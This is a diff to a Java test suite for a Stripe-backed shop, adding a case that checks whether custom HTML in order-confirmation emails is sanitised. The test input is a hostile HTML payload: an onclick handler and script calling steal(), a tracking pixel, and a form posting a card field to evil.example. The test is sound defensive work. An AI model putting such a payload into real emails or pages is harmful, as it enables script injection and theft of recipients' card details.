@@ -588,6 +588,39 @@ class StripeTests extends MediaTestSupport {
         assertThat(orders.get(0).getDate("confirmationSentAt")).isNotNull();
         assertThat(fixtures.outbox().countTo(buyer)).isEqualTo(1);
 
+        // a confirmation not yet sent (the mail queue was full when the event came) goes out in the
+        // site's own HTML, sanitised like a contact mail's
+        collection("orders")
+                .updateOne(
+                        Filters.eq("stripeSessionId", sessionId),
+                        new Document("$unset", new Document("confirmationSentAt", "")));
+        Http.Response styled = http.post(
+                "/tenant/sendOrderPlacedEmail",
+                Map.of(
+                        "sessionId",
+                        sessionId,
+                        "siteName",
+                        "Shop",
+                        "customHtml",
+                        "<h1 onclick=\"steal()\">Thanks from the Shop</h1><script>steal()</script>"
+                                + "<img src=\"https://tracker.example/p.gif\"><form action=\"https://evil.example\">"
+                                + "<input name=\"card\"></form>"),
+                "Authorization",
+                apiKey);
+        assertThat(styled.status()).as(styled.body()).isEqualTo(200);
+        var siteMail = fixtures.outbox().await(buyer, m -> m.html().contains("Thanks from the Shop"));
+        assertThat(siteMail.html())
+                .doesNotContain("<script", "onclick", "tracker.example", "<form", "<input", "steal()");
+        assertThat(siteMail.text()).contains("Thanks from the Shop");
+        assertThat(fixtures.outbox().countTo(buyer)).isEqualTo(2);
+        assertThat(http.post(
+                                "/tenant/sendOrderPlacedEmail",
+                                Map.of("sessionId", sessionId, "customHtml", "<p>again</p>"),
+                                "Authorization",
+                                apiKey)
+                        .status())
+                .isEqualTo(200);
+
         Http.Response unknown = http.post(
                 "/tenant/sendOrderPlacedEmail", Map.of("sessionId", "cs_test_unknown"), "Authorization", apiKey);
         assertThat(unknown.status()).isEqualTo(404);
